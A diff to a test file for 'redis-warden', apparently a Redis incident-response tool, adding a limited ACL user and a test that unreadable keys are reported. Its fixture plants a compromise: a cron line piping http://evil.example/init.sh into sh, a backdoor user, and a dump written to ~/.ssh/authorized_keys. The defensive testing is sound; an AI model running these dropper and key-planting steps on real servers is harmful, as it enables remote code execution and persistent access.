@@ -22,7 +22,8 @@ const BACKDOOR_PW = 'incident-backdoor-password-00000002';
 const OLD_PW = 'incident-old-user-password-000000003';
 const LIMITED_PW = 'incident-limited-password-0000000004';
 const REQUIREPASS = 'incident-requirepass-0000000000000005';
-const PASSWORDS = [ADMIN_PW, BACKDOOR_PW, OLD_PW, LIMITED_PW, REQUIREPASS];
+const NARROW_PW = 'incident-narrow-password-00000000006';
+const PASSWORDS = [ADMIN_PW, BACKDOOR_PW, OLD_PW, LIMITED_PW, REQUIREPASS, NARROW_PW];
 const CRON = '\n\n*/1 * * * * curl -fsSL http://evil.example/init.sh | sh\n\n';
 
 let server: RedisHandle;
@@ -42,6 +43,7 @@ beforeAll(async () => {
       `user backdoor on >${BACKDOOR_PW} ~* &* +@all`,
       `user olduser on >${OLD_PW} ~app:* +get +ping`,
       `user limited on >${LIMITED_PW} ~* &* +@all -acl|list -client|list`,
+      `user narrow on >${NARROW_PW} ~app:* &* +@all`,
     ],
     // Every command in the SLOWLOG (an artefact): AUTH and CONFIG SET masterauth among them.
     extraConfig: [`dir ${join(home, '.ssh')}`, 'dbfilename authorized_keys', 'slowlog-log-slower-than 0'],
@@ -205,6 +207,18 @@ describe('redis-warden incident on a planted compromise', () => {
     expect(doc.manifest.find((m) => m.what === 'config')?.file).toBeDefined();
     // The second incident has a baseline: the first one's users.
     expect(doc.findings.map((f) => f.kind)).not.toContain('users.no-baseline');
+  });
+
+  it('keys the user may not touch are listed as unreadable, the sample goes on', async () => {
+    const r = await run(['start', '--json'], 'narrow', NARROW_PW);
+    const doc = JSON.parse(r.stdout) as StartJson;
+    const file = doc.manifest.find((m) => m.what === 'keys')?.file;
+    expect(file, JSON.stringify(doc.manifest)).toBeDefined();
+    const keys = readFileSync(join(doc.dir, file!), 'utf8');
+    expect(keys).toMatch(/"name": "backup1",\s*"type": "unreadable/);
+    expect(keys).toMatch(/"name": "app:1",\s*"type": "string"/);
+    // Named like the dropper's keys: still a finding, from the name alone.
+    expect(doc.findings.find((f) => f.kind === 'keys.payload')?.title).toMatch(/^4 key/);
   });
 
   it('a server that cannot be reached is exit 2 and opens no incident', async () => {
